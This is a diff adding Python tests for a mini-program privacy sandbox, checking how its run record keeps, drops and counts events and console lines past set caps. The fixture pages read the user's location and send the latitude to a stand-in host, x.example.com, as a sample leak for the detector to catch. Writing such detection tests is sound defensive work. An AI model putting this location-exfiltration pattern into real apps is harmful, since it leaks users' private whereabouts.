@@ -1,0 +1,44 @@
+"""The record's caps: events past the cap, console lines past theirs; what is kept and what is counted."""
+
+from __future__ import annotations
+
+from mpsandbox.runtime.sandbox import RunLimits
+
+from .helpers import run_pages
+
+SMALL = RunLimits(max_events=60, max_kept_events=5, max_console=10)
+LEAK = ("tt.getLocation({ success: (r) => { for (var i = 0; i < 40; i++) clearTimeout(setTimeout(function () {}, 9e9));"
+        " %s } });")
+
+
+def page(body: str) -> dict[str, str]:
+    return {"pages/p/p": "Page({ onLoad() { " + LEAK % body + " } })"}
+
+
+def test_past_the_event_cap_the_events_findings_need_are_kept_and_the_drop_is_counted(engine_name):
+    trace = run_pages(page("tt.request({ url: 'https://x.example.com/?lat=' + r.latitude });"), engine=engine_name,
+                      limits=SMALL)
+    kinds = [e.kind for e in trace.events]
+    assert "flow" in kinds and trace.api_calls("request")  # the leak past the cap is on record
+    caps = trace.of_kind("cap")
+    assert [(c.cap, c.where, c.unit, c.judged) for c in caps] == [("events", None, "events", False)]
+    assert caps[0].limit == 60 and caps[0].dropped == trace.end.dropped_events > 0
+    seqs = [e.seq for e in trace.events]
+    assert seqs == sorted(seqs) and len(set(seqs)) == len(seqs)
+
+
+def test_past_the_second_cap_even_judged_events_are_dropped_and_that_is_judged(engine_name):
+    body = "for (var j = 0; j < 10; j++) tt.getLocation({}); tt.request({ url: 'https://x.example.com/?' + r.latitude });"
+    trace = run_pages(page(body), engine=engine_name, limits=SMALL)
+    judged = [c for c in trace.of_kind("cap") if c.where == "judged"]
+    assert judged and judged[0].judged and judged[0].limit == 65 and judged[0].dropped > 0
+    assert not trace.of_kind("flow")  # lost: which is why the cap is an error
+
+
+def test_console_lines_past_their_cap_are_dropped_but_still_searched(engine_name):
+    trace = run_pages(page("for (var i = 0; i < 15; i++) console.log('line', i); console.log('at', r.latitude);"),
+                      engine=engine_name, limits=RunLimits(max_console=10))
+    assert len(trace.of_kind("console")) == 10
+    cap = trace.of_kind("cap")[0]
+    assert (cap.cap, cap.unit, cap.limit, cap.dropped, cap.judged) == ("console", "lines", 10, 6, False)
+    assert [f.sink for f in trace.of_kind("flow")] == ["console"]
